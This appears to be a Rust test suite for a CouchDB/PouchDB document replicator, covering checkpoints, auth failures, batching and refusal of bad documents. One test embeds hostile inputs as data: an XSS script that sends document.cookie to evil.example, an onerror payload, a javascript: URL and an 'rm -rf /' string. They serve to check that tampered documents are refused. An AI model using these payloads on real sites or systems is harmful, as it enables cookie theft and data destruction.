//! The replicator against recorded answers, request by request.

use serde_json::{json, Value};

use super::fixtures::*;
use super::recorded::*;
use crate::replication::{
    Checkpoint, Config, Doc, DocError, Failure, Idle, Lane, Live, Method, Progress, Refusal,
    ReplicationError, ReplicationEvent, Request, Seq, Step,
};

type Said = Vec<ReplicationEvent<TeamSettingChanged>>;

fn long_poll() -> Live {
    Live::LongPoll { timeout_ms: 25_000 }
}

fn query<'a>(request: &'a Request, name: &str) -> Option<&'a str> {
    request
        .query
        .iter()
        .find(|(n, _)| *n == name)
        .map(|(_, v)| v.as_str())
}

fn body(request: &Request) -> Value {
    serde_json::from_str(request.body.as_deref().expect("a body")).expect("JSON body")
}

fn refused(said: &Said) -> Vec<DocError> {
    said.iter()
        .filter_map(|e| match e {
            ReplicationEvent::Refused(errors) => Some(errors.clone()),
            _ => None,
        })
        .flatten()
        .collect()
}

fn checkpoints(said: &Said) -> Vec<Checkpoint> {
    said.iter()
        .filter_map(|e| match e {
            ReplicationEvent::Checkpoint(c) => Some(c.clone()),
            _ => None,
        })
        .collect()
}

fn seq(text: &str) -> Seq {
    Seq(Value::String(text.into()))
}

/// Opens the database and reads the server's checkpoint (`local` is its answer: a 404 body or
/// a `_local` document).
fn opened(h: &mut Harness, local: (u16, &str)) {
    let info = h.request();
    assert_eq!((info.method, info.path.as_str()), (Method::Get, ""));
    assert_eq!(info.url(DB_URL), DB_URL);
    h.answer(&info, 200, COUCH_DB_INFO)
        .expect("a CouchDB database");
    let read = h.request();
    assert_eq!(read.method, Method::Get);
    assert_eq!(read.path, h.replicator.replication_id().local_path());
    h.answer(&read, local.0, local.1).expect("checkpoint read");
    h.said();
}

/// The first batch of `COUCH_CHANGES_FIRST`, fetched and stored, up to its checkpoint.
fn first_batch(h: &mut Harness) -> Said {
    let changes = h.request();
    assert_eq!(changes.path, "_changes");
    assert_eq!(query(&changes, "since"), Some("0"));
    h.answer(&changes, 200, COUCH_CHANGES_FIRST)
        .expect("changes");
    let events = h.request();
    assert_eq!(events.path, "_bulk_get");
    assert_eq!(query(&events, "attachments"), None);
    assert_eq!(
        body(&events),
        json!({"docs": [
            {"id": "t:ev-1", "rev": "1-5e85168c490027d1044f43ef186a08e1"},
            {"id": "t:ev-2", "rev": "1-677b7648ede003668e214b834bb92f30"},
        ]})
    );
    h.answer(&events, 200, COUCH_BULK_GET_EVENTS)
        .expect("events");
    let mut said = h.said();
    // Nothing more until the shell has stored them: the checkpoint cannot pass them.
    assert_eq!(h.replicator.poll_request(), None);
    h.store_pulled(&said);
    h.replicator.confirm_stored();
    let file = h.request();
    assert_eq!(query(&file, "attachments"), Some("true"));
    assert_eq!(
        body(&file),
        json!({"docs": [{"id": "f:shot-1", "rev": "1-7a5a96d16fe2ee37cab7d56bc80317a6"}]})
    );
    h.answer(&file, 200, COUCH_BULK_GET_FILE).expect("file");
    said.extend(h.said());
    assert_eq!(h.replicator.poll_request(), None);
    h.store_pulled(&said);
    h.replicator.confirm_stored();
    let put = h.request();
    assert_eq!(
        (put.method, put.path.clone()),
        (Method::Put, h.replicator.replication_id().local_path())
    );
    assert_eq!(body(&put)["history"], json!([SEQ_3]));
    h.answer(&put, 201, COUCH_LOCAL_PUT)
        .expect("checkpoint written");
    said.extend(h.said());
    said
}

#[test]
fn a_first_pull_from_couchdb_3_stores_every_document_then_checkpoints() {
    let mut h = Harness::new(config(long_poll()), None);
    opened(&mut h, (404, COUCH_LOCAL_MISSING));
    let said = first_batch(&mut h);
    let pulled: Vec<TestDoc> = said
        .iter()
        .filter_map(|e| match e {
            ReplicationEvent::Pulled(docs) => Some(docs.clone()),
            _ => None,
        })
        .flatten()
        .collect();
    assert_eq!(
        pulled,
        vec![
            Doc::Ticket(progress(
                "ev-1",
                2,
                "已排查数据库连接,确认网络链路正常,正在分析应用日志"
            )),
            Doc::Ticket(progress("ev-2", 3, "14:00定位为缓存异常")),
            Doc::Attachment(file("shot-1", b"\x89PNG\r\n\x1a\n not really a png")),
        ]
    );
    // The design document is the server's own: neither fetched nor refused.
    assert_eq!(refused(&said), vec![]);
    let stored = checkpoints(&said);
    assert_eq!(stored.len(), 1);
    assert_eq!(stored[0].since(), seq(SEQ_3));
    assert!(said.contains(&ReplicationEvent::Progress(Progress {
        pulled: 3,
        remaining: Some(0),
        ..Progress::default()
    })));
    // Caught up: listening on the feed lane, from the checkpoint.
    let feed = h.request();
    assert_eq!(feed.lane, Lane::Feed);
    assert_eq!(query(&feed, "feed"), Some("longpoll"));
    assert_eq!(query(&feed, "timeout"), Some("25000"));
    assert_eq!(query(&feed, "since"), Some(SEQ_3));
    assert_eq!(feed.timeout_ms, 40_000);
    assert!(feed.url(DB_URL).contains(&format!("since={SEQ_3}&")));
    assert_eq!(h.said(), vec![ReplicationEvent::Idle(Idle::Listening)]);
}

#[test]
fn a_replayed_feed_yields_the_same_documents_and_held_ones_are_not_fetched_again() {
    let mut first = Harness::new(config(Live::Off), None);
    opened(&mut first, (404, COUCH_LOCAL_MISSING));
    let said = first_batch(&mut first);
    let once = first.store_pulled(&said);

    // The server hands the same changes again (CouchDB may, after a shard moved): same docs.
    let mut again = Harness::new(config(Live::Off), None);
    opened(&mut again, (404, COUCH_LOCAL_MISSING));
    let said = first_batch(&mut again);
    let twice = again.store_pulled(&said);
    assert_eq!(once, twice);

    // A device holding them asks for nothing and still advances.
    let mut holding = Harness::new(config(Live::Off), None);
    holding.held = once.iter().map(Doc::id).collect();
    opened(&mut holding, (404, COUCH_LOCAL_MISSING));
    let changes = holding.request();
    holding
        .answer(&changes, 200, COUCH_CHANGES_FIRST)
        .expect("changes");
    let put = holding.request();
    assert_eq!(put.method, Method::Put);
    holding
        .answer(&put, 201, COUCH_LOCAL_PUT)
        .expect("checkpoint");
    assert_eq!(checkpoints(&holding.said())[0].since(), seq(SEQ_3));
    assert_eq!(holding.replicator.poll_request(), None);
}

#[test]
fn a_401_midway_stops_and_resumes_from_the_last_checkpoint() {
    let mut h = Harness::new(config(Live::Off), None);
    opened(&mut h, (404, COUCH_LOCAL_MISSING));
    first_batch(&mut h);
    h.replicator.wake();
    // A shell that does not say what it holds gets the documents again: harmless.
    h.held.clear();
    let changes = h.request();
    assert_eq!(query(&changes, "since"), Some(SEQ_3));
    let next = COUCH_CHANGES_FIRST
        .replace("\"pending\":0", "\"pending\":3")
        .replace(SEQ_3, SEQ_5);
    h.answer(&changes, 200, &next).expect("changes");
    let fetch = h.request();
    // The password was changed on the server meanwhile.
    let error = h
        .answer(&fetch, 401, COUCH_UNAUTHORIZED)
        .expect_err("unauthorized");
    assert_eq!(
        error,
        ReplicationError::Unauthorized {
            step: Step::FetchDocs,
            reason: "unauthorized: Name or password is incorrect.".into()
        }
    );
    assert!(!error.is_transient());
    assert_eq!(h.replicator.stopped(), Some(&error));
    assert_eq!(h.replicator.poll_request(), None);
    assert_eq!(h.replicator.checkpoint().since(), seq(SEQ_3));

    // With the new password: open again, agree with the server's copy, go on from SEQ_3.
    h.replicator.resume();
    let local =
        json!({"_id": "_local/x", "_rev": "0-1", "fielddesk": 1, "history": [SEQ_3]}).to_string();
    opened(&mut h, (200, &local));
    let changes = h.request();
    assert_eq!(query(&changes, "since"), Some(SEQ_3));
}

#[test]
fn a_stored_checkpoint_is_trusted_only_as_far_as_the_servers_copy_agrees() {
    let stored = |h: &Harness, history: Vec<Seq>, server_copy: bool| Checkpoint {
        replication_id: h.replicator.replication_id().clone(),
        history,
        server_copy,
    };
    let since_after = |stored: Checkpoint, local: (u16, &str)| {
        let mut h = Harness::new(config(Live::Off), Some(stored));
        opened(&mut h, local);
        let changes = h.request();
        query(&changes, "since").map(str::to_owned)
    };
    let probe = Harness::new(config(Live::Off), None);
    let both = stored(&probe, vec![seq(SEQ_5), seq(SEQ_3)], true);
    // A crash after storing SEQ_5 here but before the server's copy: resume from SEQ_3.
    let server = json!({"_rev": "0-3", "history": [SEQ_3, "1-g1AAAA"]}).to_string();
    assert_eq!(
        since_after(both.clone(), (200, &server)),
        Some(SEQ_3.into())
    );
    // The database was deleted and made again: its _local document is gone, start over.
    assert_eq!(
        since_after(both.clone(), (404, COUCH_LOCAL_MISSING)),
        Some("0".into())
    );
    // A server copy that is not Fielddesk's: start over.
    assert_eq!(
        since_after(both, (200, r#"{"_rev":"0-1","junk":true}"#)),
        Some("0".into())
    );
    // The server never kept a copy (read-only account): the device's alone.
    let alone = stored(&probe, vec![seq(SEQ_5)], false);
    assert_eq!(
        since_after(alone, (404, COUCH_LOCAL_MISSING)),
        Some(SEQ_5.into())
    );
    // Another database's checkpoint is not this one's.
    let other = Checkpoint {
        replication_id: crate::replication::ReplicationId::new("device-a", "https://elsewhere/db"),
        history: vec![seq(SEQ_5)],
        server_copy: true,
    };
    assert_eq!(
        since_after(other, (404, COUCH_LOCAL_MISSING)),
        Some("0".into())
    );
}

#[test]
fn the_replication_id_ignores_the_password_and_a_trailing_slash() {
    use crate::replication::ReplicationId;
    let id = ReplicationId::new("device-a", "https://couch.example.com/fielddesk");
    assert_eq!(
        id,
        ReplicationId::new("device-a", "https://li:secret@couch.example.com/fielddesk/")
    );
    assert_ne!(
        id,
        ReplicationId::new("device-b", "https://couch.example.com/fielddesk")
    );
    assert_eq!(id.as_str().len(), 32);
}

#[test]
fn forbidden_documents_in_a_201_are_refused_never_pushed() {
    let mut h = Harness::new(config(Live::Off), None);
    opened(&mut h, (404, COUCH_LOCAL_MISSING));
    h.replicator.offer_push(vec![
        Doc::Ticket(progress(
            "ev-1",
            2,
            "已排查数据库连接,确认网络链路正常,正在分析应用日志",
        )),
        Doc::Ticket(progress("ev-2", 3, "14:00定位为缓存异常")),
        Doc::Article(article("ev-kb-1", "KB-0001")),
    ]);
    // Pushes go before the pull.
    let diff = h.request();
    assert_eq!(diff.path, "_revs_diff");
    assert_eq!(
        body(&diff),
        json!({
            "t:ev-1": ["1-5e85168c490027d1044f43ef186a08e1"],
            "t:ev-2": ["1-677b7648ede003668e214b834bb92f30"],
            "a:ev-kb-1": ["1-6167889ff67c8d488450572b94324876"],
        })
    );
    h.answer(&diff, 200, COUCH_REVS_DIFF).expect("diff");
    let bulk = h.request();
    assert_eq!(bulk.path, "_bulk_docs");
    let sent = body(&bulk);
    assert_eq!(sent["new_edits"], json!(false));
    let ids: Vec<&str> = sent["docs"]
        .as_array()
        .expect("docs")
        .iter()
        .map(|d| d["_id"].as_str().expect("_id"))
        .collect();
    assert_eq!(ids, ["t:ev-2", "a:ev-kb-1"]);
    assert_eq!(
        sent["docs"][0]["_revisions"],
        json!({"start": 1, "ids": ["677b7648ede003668e214b834bb92f30"]})
    );
    h.answer(&bulk, 201, COUCH_BULK_DOCS_FORBIDDEN)
        .expect("a 201");
    let said = h.said();
    assert_eq!(
        said[..3],
        [
            ReplicationEvent::Pushed {
                accepted: vec![ticket_id("ev-1"), ticket_id("ev-2")],
                refused: vec![DocError {
                    id: "a:ev-kb-1".into(),
                    refusal: Refusal::Forbidden {
                        reason: "only supervisors write the knowledge base".into()
                    }
                }],
            },
            ReplicationEvent::Progress(Progress {
                pushed: 2,
                push_refused: 1,
                ..Progress::default()
            }),
            ReplicationEvent::PushDrained,
        ]
    );
    // Then the pull.
    assert_eq!(h.request().path, "_changes");
}

#[test]
fn pushes_come_in_batches_and_do_not_wait_for_the_feed() {
    let mut h = Harness::new(
        Config {
            batch_size: 2,
            ..config(long_poll())
        },
        None,
    );
    opened(&mut h, (404, COUCH_LOCAL_MISSING));
    let changes = h.request();
    h.answer(&changes, 200, COUCH_CHANGES_NONE)
        .expect("nothing new");
    let put = h.request();
    h.answer(&put, 201, COUCH_LOCAL_PUT).expect("checkpoint");
    let feed = h.request();
    assert_eq!(feed.lane, Lane::Feed);
    // A long poll is out; the team's new events still go at once, two per request.
    h.replicator
        .offer_push((1..=5).map(|n| Doc::Ticket(progress(&format!("ev-{n}"), n, "n"))));
    let mut batches = Vec::new();
    while let Some(diff) = h.replicator.poll_request() {
        assert_eq!((diff.lane, diff.path.as_str()), (Lane::Work, "_revs_diff"));
        batches.push(body(&diff).as_object().expect("object").len());
        h.answer(&diff, 200, "{}").expect("all there already");
    }
    assert_eq!(batches, [2, 2, 1]);
    let said = h.said();
    assert_eq!(
        said.iter()
            .filter(|e| matches!(e, ReplicationEvent::Pushed { .. }))
            .count(),
        3
    );
    assert_eq!(said.last(), Some(&ReplicationEvent::Idle(Idle::Listening)));
    // The feed's answer is still welcome.
    h.answer(&feed, 200, COUCH_CHANGES_NONE)
        .expect("quiet feed");
}

#[test]
fn a_failed_write_naming_no_document_counts_nothing_as_pushed() {
    let mut h = Harness::new(config(Live::Off), None);
    opened(&mut h, (404, COUCH_LOCAL_MISSING));
    h.replicator
        .offer_push(vec![Doc::Ticket(progress("ev-2", 3, "n"))]);
    let diff = h.request();
    let rev = body(&diff)["t:ev-2"][0].clone();
    h.answer(
        &diff,
        200,
        &json!({"t:ev-2": {"missing": [rev]}}).to_string(),
    )
    .expect("diff");
    let bulk = h.request();
    let error = h
        .answer(
            &bulk,
            201,
            r#"[{"error":"unknown_error","reason":"timeout"}]"#,
        )
        .expect_err("unattributed");
    assert!(matches!(
        error,
        ReplicationError::UnexpectedStatus {
            step: Step::Push,
            ..
        }
    ));
    assert!(!h
        .said()
        .iter()
        .any(|e| matches!(e, ReplicationEvent::Pushed { .. })));
    // Offered again on resume.
    h.replicator.resume();
    opened(&mut h, (404, COUCH_LOCAL_MISSING));
    let diff = h.request();
    assert_eq!(diff.path, "_revs_diff");
    assert!(body(&diff).get("t:ev-2").is_some());
}

#[test]
fn a_file_over_the_teams_limit_is_refused_before_sending() {
    let mut h = Harness::new(config(Live::Off), None);
    h.replicator.offer_push(vec![Doc::Attachment(file(
        "big",
        &vec![0u8; 10 * 1024 * 1024 + 1],
    ))]);
    assert_eq!(
        h.said(),
        vec![
            ReplicationEvent::Pushed {
                accepted: vec![],
                refused: vec![DocError {
                    id: "f:big".into(),
                    refusal: Refusal::AttachmentTooLarge {
                        size: 10 * 1024 * 1024 + 1,
                        limit: 10 * 1024 * 1024
                    }
                }]
            },
            ReplicationEvent::PushDrained,
        ]
    );
}

#[test]
fn a_missing_database_says_so() {
    let mut h = Harness::new(config(Live::Off), None);
    let info = h.request();
    assert_eq!(
        h.answer(&info, 404, COUCH_DB_MISSING),
        Err(ReplicationError::DatabaseMissing {
            step: Step::OpenDatabase
        })
    );
}

#[test]
fn a_url_that_is_not_a_couchdb_database_says_so() {
    let mut h = Harness::new(config(Live::Off), None);
    let info = h.request();
    assert!(matches!(
        h.answer(&info, 200, NGINX_WELCOME),
        Err(ReplicationError::NotCouchDb { .. })
    ));
    h.replicator.resume();
    let info = h.request();
    assert!(matches!(
        h.answer(&info, 404, NGINX_404),
        Err(ReplicationError::NotCouchDb { .. })
    ));
    h.replicator.resume();
    let info = h.request();
    assert_eq!(
        h.answer(&info, 200, COUCH_ROOT),
        Err(ReplicationError::ServerNotDatabase)
    );
    h.replicator.resume();
    let info = h.request();
    assert!(matches!(
        h.answer(&info, 200, r#"{"ok":true}"#),
        Err(ReplicationError::NotCouchDb { .. })
    ));
    h.replicator.resume();
    let info = h.request();
    assert!(matches!(
        h.answer(
            &info,
            403,
            r#"{"error":"forbidden","reason":"You are not allowed to access this db."}"#
        ),
        Err(ReplicationError::Forbidden {
            step: Step::OpenDatabase,
            ..
        })
    ));
}

#[test]
fn hostile_documents_are_refused_one_by_one_and_the_rest_applied() {
    let mut h = Harness::new(config(Live::Off), None);
    opened(&mut h, (404, COUCH_LOCAL_MISSING));
    let script = "<script>fetch('https://evil.example/'+document.cookie)</script>";
    let mut scripted = progress("ev-3", 4, script);
    scripted.actor.name = script.into();
    scripted.actor.employee_id = "\"><img src=x onerror=alert(1)>".into();
    scripted.ticket.0 = "javascript:alert(1)".into();
    let scripted: TestDoc = Doc::Ticket(scripted);
    let wrong_shape = forged(
        "t:ev-4",
        json!({"fielddesk": 1, "event": {"id": "ev-4", "kind": script}}),
    );
    let huge = format!(
        r#"{{"_id":"t:ev-5","_rev":"1-00000000000000000000000000000000","fielddesk":1,"event":{{"note":"{}"}}}}"#,
        "A".repeat(20 * 1024 * 1024)
    );
    let tampered = served(&Doc::Ticket(progress("ev-6", 2, "清理浏览器缓存")))
        .replace("清理浏览器缓存", "rm -rf /");
    let plain: TestDoc = Doc::Ticket(progress("ev-7", 5, "重启Tomcat服务"));
    let ids = ["t:ev-3", "t:ev-4", "t:ev-5", "t:ev-6", "t:ev-7", "t:ev-8"];
    let rows: Vec<Value> = ids
        .iter()
        .map(|id| json!({"seq": "9-g1AAAA", "id": id, "changes": [{"rev": "1-00000000000000000000000000000000"}]}))
        .collect();
    let changes = h.request();
    h.answer(
        &changes,
        200,
        &json!({"results": rows, "last_seq": "9-g1AAAA", "pending": 0}).to_string(),
    )
    .expect("changes");
    let fetch = h.request();
    let docs = [
        served(&scripted),
        wrong_shape,
        huge,
        tampered,
        served(&plain),
    ];
    let mut reply = String::from(r#"{"results":["#);
    for (id, doc) in ids.iter().zip(&docs) {
        reply.push_str(&format!(r#"{{"id":"{id}","docs":[{{"ok":{doc}}}]}},"#));
    }
    reply.push_str(r#"{"id":"t:ev-8","docs":[{"error":{"id":"t:ev-8","rev":"1-00000000000000000000000000000000","error":"not_found","reason":"missing"}}]}]}"#);
    h.answer(&fetch, 200, &reply)
        .expect("one bad document does not stop a batch");
    let said = h.said();
    assert_eq!(h.store_pulled(&said), vec![scripted, plain]);
    let why: Vec<(String, &'static str)> = refused(&said)
        .into_iter()
        .map(|e| {
            let kind = match e.refusal {
                Refusal::Shape(_) => "shape",
                Refusal::TooLarge { .. } => "size",
                Refusal::RevMismatch { .. } => "rev",
                Refusal::ServerRefused { .. } => "server",
                _ => "other",
            };
            (e.id, kind)
        })
        .collect();
    assert_eq!(
        why,
        [
            ("t:ev-4".into(), "shape"),
            ("t:ev-5".into(), "size"),
            ("t:ev-6".into(), "rev"),
            ("t:ev-8".into(), "server"),
        ]
    );
    // Counted as well as listed.
    assert!(said.contains(&ReplicationEvent::Progress(Progress {
        pulled: 2,
        pull_refused: 4,
        remaining: Some(0),
        ..Progress::default()
    })));
    h.replicator.confirm_stored();
    assert_eq!(h.request().method, Method::Put);
}

#[test]
fn changes_that_cannot_be_fielddesks_are_refused_without_fetching() {
    let mut h = Harness::new(config(Live::Off), None);
    opened(&mut h, (404, COUCH_LOCAL_MISSING));
    let changes = h.request();
    let feed = r#"{"results":[
        {"seq":"4-g1","id":"t:ev-9","changes":[{"rev":"2-5f2e3a1c0d9b8a7f6e5d4c3b2a1f0e9d"}],"deleted":true},
        {"seq":"5-g1","id":"invoice-2023","changes":[{"rev":"1-aa"}]}
    ],"last_seq":"5-g1","pending":0}"#;
    h.answer(&changes, 200, feed).expect("changes");
    let said = h.said();
    let refusals: Vec<Refusal> = refused(&said).into_iter().map(|e| e.refusal).collect();
    assert!(matches!(
        refusals[..],
        [Refusal::Deleted, Refusal::BadId(_)]
    ));
    assert_eq!(h.request().method, Method::Put);
}

#[test]
fn pouchdb_servers_integer_seqs_work_as_well() {
    let mut h = Harness::new(config(long_poll()), None);
    let info = h.request();
    h.answer(&info, 200, POUCH_DB_INFO)
        .expect("pouchdb-server's database");
    assert_eq!(
        h.said()[0],
        ReplicationEvent::Connected {
            db_name: "fielddesk".into(),
            update_seq: Seq(json!(2))
        }
    );
    let read = h.request();
    h.answer(&read, 404, COUCH_LOCAL_MISSING)
        .expect("no checkpoint yet");
    let changes = h.request();
    h.answer(&changes, 200, POUCH_CHANGES).expect("changes");
    let fetch = h.request();
    h.answer(&fetch, 200, POUCH_BULK_GET).expect("docs");
    let said = h.said();
    assert_eq!(
        h.store_pulled(&said),
        vec![
            Doc::Ticket(progress(
                "ev-1",
                2,
                "已排查数据库连接,确认网络链路正常,正在分析应用日志"
            )),
            Doc::Settings(setting("ev-set-1"))
        ]
    );
    h.replicator.confirm_stored();
    let put = h.request();
    assert_eq!(body(&put)["history"], json!([2]));
    h.answer(&put, 201, POUCH_LOCAL_PUT).expect("checkpoint");
    assert_eq!(checkpoints(&h.said())[0].since(), Seq(json!(2)));
    // Two changes, fewer than a batch, and no `pending`: caught up.
    let feed = h.request();
    assert_eq!(query(&feed, "since"), Some("2"));
    // pouchdb-server ignores `timeout`: the shell's watchdog ends the poll, which is only quiet.
    h.replicator
        .handle_failure(feed.id, Failure::TimedOut)
        .expect("a quiet feed");
    let again = h.request();
    assert_eq!(
        (again.lane, query(&again, "since")),
        (Lane::Feed, Some("2"))
    );
    // A change arrives on the feed.
    let change = r#"{"results":[{"id":"t:ev-2","changes":[{"rev":"1-677b7648ede003668e214b834bb92f30"}],"seq":3}],"last_seq":3}"#;
    h.answer(&again, 200, change).expect("a change");
    let fetch = h.request();
    assert_eq!((fetch.lane, fetch.path.as_str()), (Lane::Work, "_bulk_get"));
}

#[test]
fn plain_polling_waits_for_the_shells_timer() {
    let mut h = Harness::new(
        config(Live::Poll {
            interval_ms: 30_000,
        }),
        None,
    );
    opened(&mut h, (404, COUCH_LOCAL_MISSING));
    let changes = h.request();
    h.answer(&changes, 200, COUCH_CHANGES_NONE)
        .expect("nothing new");
    let put = h.request();
    h.answer(&put, 201, COUCH_LOCAL_PUT).expect("checkpoint");
    assert_eq!(h.replicator.poll_request(), None);
    assert_eq!(
        h.said().last(),
        Some(&ReplicationEvent::Idle(Idle::WakeAfter { ms: 30_000 }))
    );
    assert_eq!(h.replicator.poll_request(), None);
    assert_eq!(h.said(), vec![]);
    h.replicator.wake();
    let changes = h.request();
    assert_eq!(
        (
            changes.lane,
            query(&changes, "feed"),
            query(&changes, "since")
        ),
        (Lane::Work, Some("normal"), Some(SEQ_3))
    );
}

#[test]
fn a_checkpoint_written_meanwhile_is_read_again_and_written_once_more() {
    let mut h = Harness::new(config(Live::Off), None);
    opened(&mut h, (404, COUCH_LOCAL_MISSING));
    let changes = h.request();
    h.answer(&changes, 200, COUCH_CHANGES_NONE)
        .expect("nothing new");
    let put = h.request();
    assert!(body(&put).get("_rev").is_none());
    h.answer(
        &put,
        409,
        r#"{"error":"conflict","reason":"Document update conflict."}"#,
    )
    .expect("retried");
    let read = h.request();
    assert_eq!(read.method, Method::Get);
    h.answer(
        &read,
        200,
        r#"{"_id":"_local/x","_rev":"0-7","fielddesk":1,"history":[]}"#,
    )
    .expect("read");
    let put = h.request();
    assert_eq!(body(&put)["_rev"], json!("0-7"));
    h.answer(&put, 201, r#"{"ok":true,"id":"_local/x","rev":"0-8"}"#)
        .expect("written");
    assert_eq!(checkpoints(&h.said()).len(), 1);
}

#[test]
fn a_server_that_will_not_keep_a_checkpoint_leaves_it_to_the_device() {
    let mut h = Harness::new(config(Live::Off), None);
    opened(&mut h, (404, COUCH_LOCAL_MISSING));
    let changes = h.request();
    h.answer(&changes, 200, COUCH_CHANGES_NONE)
        .expect("nothing new");
    let put = h.request();
    h.answer(&put, 403, r#"{"error":"forbidden","reason":"read-only"}"#)
        .expect("kept here");
    let stored = checkpoints(&h.said());
    assert_eq!(stored.len(), 1);
    assert!(!stored[0].server_copy);
    assert_eq!(stored[0].since(), seq(SEQ_3));
}

#[test]
fn a_network_failure_stops_and_may_pass_by_itself() {
    let mut h = Harness::new(config(Live::Off), None);
    let info = h.request();
    let error = h
        .replicator
        .handle_failure(
            info.id,
            Failure::Network("TypeError: Failed to fetch".into()),
        )
        .expect_err("unreachable");
    assert!(error.is_transient());
    assert!(matches!(
        error,
        ReplicationError::Unreachable {
            step: Step::OpenDatabase,
            ..
        }
    ));
    // An answer that comes too late is ignored.
    assert_eq!(h.answer(&info, 200, COUCH_DB_INFO), Ok(()));
    assert_eq!(h.replicator.poll_request(), None);
    h.replicator.resume();
    assert_eq!(h.request().path, "");
}

#[test]
fn a_seq_that_is_not_a_string_goes_into_the_url_as_json() {
    let mut h = Harness::new(config(Live::Off), None);
    opened(&mut h, (404, COUCH_LOCAL_MISSING));
    let changes = h.request();
    h.answer(
        &changes,
        200,
        r#"{"results":[],"last_seq":[7,"g1AAAA"],"pending":0}"#,
    )
    .expect("changes");
    let put = h.request();
    h.answer(&put, 201, COUCH_LOCAL_PUT).expect("checkpoint");
    h.replicator.wake();
    let changes = h.request();
    assert_eq!(query(&changes, "since"), Some(r#"[7,"g1AAAA"]"#));
    assert!(changes
        .url(DB_URL)
        .contains("since=%5B7%2C%22g1AAAA%22%5D&"));
}
